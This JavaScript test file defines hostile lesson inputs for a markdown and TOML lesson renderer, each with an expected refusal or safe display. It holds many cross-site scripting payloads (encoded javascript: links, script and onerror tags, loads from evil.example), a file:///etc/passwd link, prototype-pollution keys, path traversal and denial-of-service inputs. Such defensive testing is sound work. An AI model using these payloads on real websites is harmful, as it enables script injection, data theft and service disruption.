// Lessons that no honest author writes. Each is `{ name, files, expect }`: `expect` is "shown" if nothing about it is
// wrong, so that it has to be shown as the text that it is; a pattern if it has to be refused with such a complaint;
// nothing if either will do.
//
// Whatever would run calls `pwn`, and whatever would be fetched is at evil.example.

const LESSON = `format = 1
protocol = "replication"
minutes = 5
level = "first"
languages = ["en"]
setup = """
cluster replication mode=async lag=40ms resource=off seed=7
run 5ms
request c1 put x 1
"""
title.en = "Title"
summary.en = "Summary"

[[step]]
id = "look"
kind = "read"
`;

const TEXT = "## Look {#look}\n\nHere.\n";

/** Instead of the lesson's own, the whole text, or a paragraph of it. */
const text = (name, all, expect) => ({ name, files: { "lesson.toml": LESSON, "en.md": all }, expect });
const words = (name, paragraph, expect) => text(name, `## Look {#look}\n\nHere ${paragraph} there.\n`, expect);
const block = (name, content, expect) => text(name, `## Look {#look}\n\nHere.\n\n${content}\n`, expect);
const toml = (name, all, expect) => ({ name, files: { "lesson.toml": all, "en.md": TEXT }, expect });
const setup = (name, lines, expect) => toml(name, LESSON.replace(/setup = """[^]*?"""/, `setup = """\n${lines}\n"""`), expect);

const PREDICT = (run, when) => `${LESSON.replace('kind = "read"', 'kind = "predict"')}run = """\n${run}\n"""
[[step.option]]
id = "a"
when = ${JSON.stringify(when)}
[[step.option]]
id = "b"
when = ${JSON.stringify(`not (${when})`)}
`;
const PREDICT_TEXT = "## Look {#look}\n\nHere.\n\n### A {#a}\n\nYes.\n\n### B {#b}\n\nNo.\n";
const predict = (name, run, expect, when = "acknowledged") => ({
  name,
  files: { "lesson.toml": PREDICT(run, when), "en.md": PREDICT_TEXT },
  expect,
});
const task = (name, { goal = "acknowledged", solution = "run until acknowledged", wrong }, expect) => ({
  name,
  files: {
    "lesson.toml": `${LESSON.replace('kind = "read"', 'kind = "task"')}goal = ${JSON.stringify(goal)}
budget = 1
allowed = ["crash"]
solution = ${JSON.stringify(solution)}
${wrong ? `wrong = [${JSON.stringify(wrong)}]\n` : ""}`,
    "en.md": "## Look {#look}\n\nHere.\n\n### Hint\n\nLook.\n",
  },
  expect,
});

const HTML = /no HTML/;
const LINK = /a link goes to/;
const TOO_LARGE = /larger than 64 KB/;
const DEEP = /levels deep/;

/** What stands for code in every dress that a browser might see through. */
const ADDRESSES = [
  "javascript:pwn(1)",
  "JaVaScRiPt:pwn(1)",
  "javascript&colon;pwn(1)",
  "&#106;avascript:pwn(1)",
  "&#x6A;avascript&#58;pwn(1)",
  "&#0000106avascript:pwn(1)",
  "java&#9;script:pwn(1)",
  "java&#10;script:pwn(1)",
  "java&Tab;script:pwn(1)",
  "java&NewLine;script:pwn(1)",
  "&#1;javascript:pwn(1)",
  "&#x20;javascript:pwn(1)",
  "&nbsp;javascript:pwn(1)",
  "javascript\\:pwn(1)",
  "javascript://https://example.org/%0Apwn(1)",
  "data:text/html,%3Cscript%3Epwn(1)%3C/script%3E",
  "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
  "vbscript:pwn(1)",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "view-source:https://evil.example/",
  "http://evil.example/",
  "//evil.example/",
  "\\\\evil.example\\share",
  "/evil",
  "evil.html",
  "#evil",
  "?embed=1",
  "https:evil.example",
  "",
];

const links = [
  ...ADDRESSES.map((address) => words(`a link to ${address || "nothing"}`, `[x](${address})`, LINK)),
  ...["javascript:pwn(1)", "java\tscript:pwn(1)", "\u0001javascript:pwn(1)", "https://a.example/ b", ""].map((address) =>
    words(`a link to ${JSON.stringify(address)} in brackets`, `[x](<${address}>)`, LINK),
  ),
];

const html = [
  "<script>pwn(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<SCRIPT>pwn(1)</SCRIPT>",
  "<img src=x onerror=pwn(1)>",
  "<img src=https://evil.example/x.png>",
  "<svg onload=pwn(1)></svg>",
  "<svg><script>pwn(1)</script></svg>",
  "<svg><a xlink:href=javascript:pwn(1)><text>x</text></a></svg>",
  "<iframe src=https://evil.example/></iframe>",
  "<iframe srcdoc='<script>parent.pwn(1)</script>'></iframe>",
  "<object data=https://evil.example/></object>",
  "<embed src=https://evil.example/>",
  "<style>@import 'https://evil.example/x.css'; #app { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=x autofocus onfocus=pwn(1)></form>",
  "<details open ontoggle=pwn(1)>x</details>",
  "<math><mi xlink:href=javascript:pwn(1)>x</mi></math>",
  "<video src=https://evil.example/x.mp4 onerror=pwn(1)></video>",
  "<template><script>pwn(1)</script></template>",
  "<faultline-lesson base=https://evil.example/ lesson=x></faultline-lesson>",
  "<!-- a comment -->",
  "<!DOCTYPE html>",
  "<![CDATA[ <script>pwn(1)</script> ]]>",
  "<?php pwn(1) ?>",
  "<b onmouseover=pwn(1)>x</b>",
  "</article></main></body>",
].flatMap((code) => [words(`${code} in a line`, code, HTML), block(`${code} as a block`, code, HTML)]);

const inText = [
  words("what looks like HTML in code", "`<script>pwn(1)</script>` and `<img src=x onerror=pwn(1)>`", "shown"),
  block("what looks like HTML in a block of code", '```html onload="pwn(1)"\n<script>pwn(1)</script>\n</pre></article>\n```', "shown"),
  words("escaped HTML", "\\<script>pwn(1)\\</script> and &lt;img src=x onerror=pwn(1)&gt;", "shown"),
  text("HTML in a heading", "## Look `<img src=x onerror=pwn(1)>` &lt;b&gt; {#look}\n\nHere.\n", "shown"),
  words("a link with attributes in its title", `[x](https://example.org/ "x\\" onmouseover=pwn(1)")`, "shown"),
  words("a link with a quotation mark", '[x](https://example.org/"onmouseover="pwn(1))', "shown"),
  words("a link with a password", "[x](https://bank.example:pay@evil.example/)", undefined),
  words("a link to a page here", "[x](#/run/AAAA) and [y](#/lesson?src=javascript%3Apwn(1))", "shown"),
  words("an autolink", "<https://example.org/>", "shown"),
  words("an autolink to code", "<javascript:pwn(1)>", LINK),
  block("a reference to code", "[x][1]\n\n[1]: javascript:pwn(1)", LINK),
  block("a reference to code in another line", "[x][1]\n\n[1]:\n  <JavaScript:pwn(1)>\n  'title'", LINK),
  words("a picture", "![x](https://evil.example/x.png)", /no pictures/),
  words("a picture of code", "![x](javascript:pwn(1))", /no pictures/),
  words("a picture in a link", "[![x](https://evil.example/x.png)](https://example.org/)", /no pictures/),
  text("attributes of a heading", "## Look {#look onclick=pwn(1) style=display:none .x}\n\nHere.\n", undefined),
  text("an id with markup", '## Look {#"><img/src=x/onerror=pwn(1)>}\n\nHere.\n', /.../),
  text("an id that every object has", "## Look {#__proto__}\n\nHere.\n", /`__proto__`/),
  block("a footnote, a task and a rule", "[^1] x\n\n- [ ] y\n\n---\n\n[^1]: z", /.../),
  block("math", "$$\\href{javascript:pwn(1)}{x}$$", "shown"),
  block("bidi marks", "\u202E\u2066\u2067\u2068\u202D\u202Aabc \u061C\u200F def", "shown"),
  text("bidi marks in a heading", "## \u202Edrawkcab\u2066 {#look}\n\nHere.\n", "shown"),
  block("all of Unicode's oddities", "\u0000\u0007\u001B[31m \uFFFE\uFFFF \u2028 \u2029 \uFEFF \u{E0001}\u{10FFFF} Z\u0351\u036B\u0343\u032A\u0302", undefined),
  block("a line of 60,000 letters", "a".repeat(60_000), "shown"),
  block("a letter with 30,000 marks", `a${"\u0301".repeat(30_000)}`, "shown"),
  block("20,000 emoji of one", "👨‍👩‍👧‍👦".repeat(2_000), "shown"),
];

const many = (piece, times) => piece.repeat(times);
const large = [
  block("quotes in quotes", `${many(">", 30_000)} x`, DEEP),
  block("lists in lists", `${many("- ", 20_000)}x`, DEEP),
  block("lists in lists, indented", Array.from({ length: 250 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n"), DEEP),
  block("quotes and lists in turn", `${many("> - 1. ", 5_000)}x`, DEEP),
  block("emphasis in emphasis", `${many("*a _b ", 5_000)}x${many(" b_ a*", 5_000)}`, DEEP),
  block("asterisks and underscores", `${many("*_", 10_000)}x${many("_*", 10_000)}`, undefined),
  block("asterisks", many("*", 60_000), undefined),
  block("asterisks and letters", many("*a ", 20_000), undefined),
  block("strong and not", many("**a* ", 12_000), undefined),
  block("opening brackets", many("[", 60_000), undefined),
  block("opening brackets of pictures", many("![", 30_000), undefined),
  block("links in links", `${many("[", 20_000)}x${many("](https://a.example)", 2_000)}`, undefined),
  block("references to references", `${many("[a]: b\n", 4_000)}\n${many("[a][b]", 5_000)}`, undefined),
  block("backticks", Array.from({ length: 340 }, (_, length) => `${many("`", length + 1)}x`).join(" "), undefined),
  block("entities", many("&#0;", 15_000), undefined),
  block("angle brackets", many("<", 60_000), undefined),
  block("tags", many("<b>", 20_000), HTML),
  block("comments that do not end", many("<!--", 15_000), undefined),
  block("declarations that do not end", many("<!A", 20_000), undefined),
  block("questions", many("<?", 30_000), undefined),
  block("a wide table", `${many("|a", 10_000)}|\n${many("|-", 10_000)}|\n`, undefined),
  block("a wide table with many rows", `${many("|a", 300)}|\n${many("|-", 300)}|\n${many("|\n", 30_000)}`, undefined),
  block("a table with more cells than it has letters", `${many("|a", 2_000)}|\n${many("|-", 2_000)}|\n${many("|b\n", 15_000)}`, /2000 cells/),
  block("tables", many("|a|\n|-|\n|b|\n\n", 3_500), undefined),
  block("paragraphs", many("x\n\n", 20_000), "shown"),
  text("sections", `## Look {#look}\n\nHere.\n\n${many("## A {#a}\n\n", 5_000)}`, /there twice|no step/),
  text("hints", `## Look {#look}\n\nHere.\n\n${many("### Hint\n\nx\n\n", 4_000)}`, undefined),
  text("options", `## Look {#look}\n\nHere.\n\n${many("### A {#a}\n\nx\n\n", 3_500)}`, /no options/),
  text("70 KB", `## Look {#look}\n\n${many("word ", 14_000)}\n`, TOO_LARGE),
  text("64 KB and a byte", TEXT + many("\n", 64 * 1024 + 1 - TEXT.length), TOO_LARGE),
  text("64 KB", TEXT + many("\n", 64 * 1024 - TEXT.length), "shown"),
];

const bytes = [
  text("a mark at the start", `\uFEFF${TEXT}`, "shown"),
  toml("a mark at the start of lesson.toml", `\uFEFF${LESSON}`, "shown"),
  text("lines that end as in Windows", TEXT.replaceAll("\n", "\r\n"), "shown"),
  toml("lesson.toml with lines that end as in Windows", LESSON.replaceAll("\n", "\r\n"), "shown"),
  text("broken UTF-8", Buffer.concat([Buffer.from(TEXT), Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80])]), /not UTF-8/),
  text("UTF-16", Buffer.from(`\uFEFF${TEXT}`, "utf16le"), /not UTF-8/),
  toml("lesson.toml in UTF-16", Buffer.from(`\uFEFF${LESSON}`, "utf16le"), /not UTF-8/),
  text("zeros", `## Look {#look}\n\nHere\0\0there.\n`, undefined),
  toml("zeros in lesson.toml", LESSON.replace("Title", "Ti\0tle"), /.../),
  text("nothing", "", /no section/),
  toml("an empty lesson.toml", "", /missing/),
  toml("lesson.toml of zeros", Buffer.alloc(60_000), /.../),
  text("a picture for a text", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), /not UTF-8/),
];

const TITLE = (title) => LESSON.replace('title.en = "Title"', `title.en = ${JSON.stringify(title)}`);
const ID = (id) => LESSON.replace('id = "look"', `id = ${JSON.stringify(id)}`);
const lesson = [
  toml("lesson.toml that is HTML", "<!DOCTYPE html>\n<html><script>pwn(1)</script></html>\n", /lesson\.toml:1/),
  toml("lesson.toml that is JSON", '{"format": 1, "__proto__": {"x": 1}}', /lesson\.toml:1/),
  toml("another format", LESSON.replace("format = 1", "format = 2"), /newer Faultline/),
  toml("a title with markup", TITLE('<img src=x onerror=pwn(1)>"\'><script>pwn(1)</script>'), "shown"),
  toml("a title of bidi marks", TITLE("\u202E\u2066evil"), "shown"),
  toml("a title with lines", TITLE("a\nb\n\n\nc"), undefined),
  toml("a title of 50,000 letters", TITLE("a".repeat(50_000)), /longer than 120/),
  toml("a summary with markup", LESSON.replace('"Summary"', '"<script>pwn(1)</script>"'), "shown"),
  ...["__proto__", "<img src=x onerror=pwn(1)>", '"><script>pwn(1)</script>', "../../x", "a b", "", "é", "a".repeat(300)].map((id) =>
    toml(`the id ${id.slice(0, 40)}`, ID(id), /cannot stand in an address/),
  ),
  toml("the id constructor", ID("constructor"), /`constructor` has no section/),
  toml("keys that every object has", `${LESSON}__proto__ = 1\nconstructor = { prototype = 1 }\n`, /no key `__proto__`/),
  toml("a key with markup", `${LESSON}"<img src=x onerror=pwn(1)>" = 1\n`, /no key/),
  toml("a protocol with markup", LESSON.replace('"replication"', '"<script>pwn(1)</script>"'), /.../),
  toml("a language that is none", LESSON.replace('["en"]', '["en", "../../x"]'), /.../),
  toml("what it builds on with markup", LESSON.replace("minutes", 'builds-on = ["<img src=x onerror=pwn(1)>"]\nminutes'), /.../),
  toml("a panel with markup", `${LESSON}panel = "<script>pwn(1)</script>"\n`, /.../),
  toml("numbers that are none", LESSON.replace("minutes = 5", "minutes = nan"), /.../),
  toml("a number that is too large", LESSON.replace("minutes = 5", `minutes = ${"9".repeat(5_000)}`), /.../),
  toml("a date", LESSON.replace("minutes = 5", "minutes = 1979-05-27T07:32:00Z"), /.../),
  toml("1000 steps", LESSON + Array.from({ length: 1_000 }, (_, index) => `[[step]]\nid = "s${index}"\nkind = "read"\n`).join(""), /at most 40 steps/),
  toml("1000 options", `${LESSON.replace('kind = "read"', 'kind = "quiz"')}${Array.from({ length: 1_000 }, (_, index) => `[[step.option]]\nid = "o${index}"\n`).join("")}`, /.../),
  toml("a million brackets", "[".repeat(1_000_000), TOO_LARGE),
  toml("60,000 brackets", "[".repeat(60_000), /.../),
  toml("a list in a list, 30,000 deep", `a = ${"[".repeat(30_000)}${"]".repeat(30_000)}`, /.../),
  toml("a table in a table, 10,000 deep", `a = ${"{a=".repeat(10_000)}1${"}".repeat(10_000)}`, /.../),
  toml("a dotted key of 30,000 parts", `${many("a.", 30_000)}a = 1`, /.../),
  toml("a dotted table of 30,000 parts", `[${many("a.", 30_000)}a]`, /.../),
  toml("a dotted table of lists", `[[${many("a.", 30_000)}a]]`, /.../),
  toml("dotted keys of 100 parts each", Array.from({ length: 300 }, (_, index) => `${many("a.", 80)}b${index} = 1`).join("\n"), /.../),
  toml("10,000 tables", Array.from({ length: 6_000 }, (_, index) => `[a${index}]`).join("\n"), /.../),
  toml("a text that does not end", `${LESSON}x = """${"a\n".repeat(20_000)}`, /does not end/),
  toml("an escape that is none", LESSON.replace("Title", "\\q"), /.../),
  toml("an escape beyond Unicode", LESSON.replace("Title", "\\UFFFFFFFF"), /.../),
];

const runs = [
  setup("a set-up of 10^12 s", "cluster replication\nrun 1000000000000s", /250,?000|steps/),
  setup("a set-up of 10^300 s", `cluster replication\nrun 1${"0".repeat(300)}s`, /.../),
  setup("a set-up to the end of time", "cluster replication\nrun 18446744073709551615us", /.../),
  setup("a set-up of 10,000,000 steps", "cluster replication\nstep 10000000", /.../),
  setup("a set-up that waits for ever", "cluster replication\nrun until parameter mode = sync", /.../),
  setup("a set-up of 5,000 lines", `cluster replication\n${many("run 1us\n", 5_000)}`, /200 lines/),
  setup("many requests", `cluster replication\n${many("request c1 put x 1\n", 150)}`, undefined),
  setup("more nodes than there are", "cluster replication nodes=1000000000", /.../),
  setup("settings beyond all measure", `cluster replication lag=${"9".repeat(400)}ms`, /.../),
  setup("a value of 50,000 letters", `cluster replication\nrun 5ms\nrequest c1 put x ${"v".repeat(50_000)}`, undefined),
  setup("a value with markup", "cluster replication\nrun 5ms\nrequest c1 put x <img/src=x/onerror=pwn(1)>\nrun 100ms", undefined),
  setup("another protocol", "cluster hashing", /.../),
  predict("a prediction of 10^12 s", "run 1000000000000s", /250,?000|steps/),
  predict("a prediction of 10,000,000 steps", "step 10000000", /.../),
  predict("a prediction for ever", "run until violated", /.../),
  predict("a prediction about 1000 brackets", "run until acknowledged", /.../, `${"(".repeat(1_000)}acknowledged${")".repeat(1_000)}`),
  task("a goal nested 1000 deep", { goal: `${"(".repeat(1_000)}acknowledged${")".repeat(1_000)}` }, undefined),
  task("a goal nested 20,000 deep", { goal: `${"(".repeat(20_000)}acknowledged${")".repeat(20_000)}` }, /.../),
  task("a goal that is not not 1000 times", { goal: `${"not ".repeat(1_000)}acknowledged` }, /.../),
  task("a goal that is not not 15,000 times", { goal: `${"not ".repeat(15_000)}acknowledged` }, /.../),
  task("a goal that was ever ever 5,000 times", { goal: `${"ever (".repeat(5_000)}acknowledged${")".repeat(5_000)}` }, /.../),
  task("a goal of 5,000 parts", { goal: Array.from({ length: 3_000 }, () => "acknowledged").join(" and ") }, /20 parts/),
  task("a goal with markup", { goal: 'violated "<img src=x onerror=pwn(1)>"' }, /.../),
  task("a goal that is never reached", { goal: "time < 0ms", solution: "run 1000000000000s" }, /.../),
  task("a solution of 10,000,000 steps", { solution: "step 10000000" }, /.../),
  task("a wrong attempt of 10^12 s", { wrong: "run 1000000000000s" }, /.../),
];

export const HOSTILE = { links, html, "what looks like code": inText, "too much": large, bytes, "lesson.toml": lesson, runs };
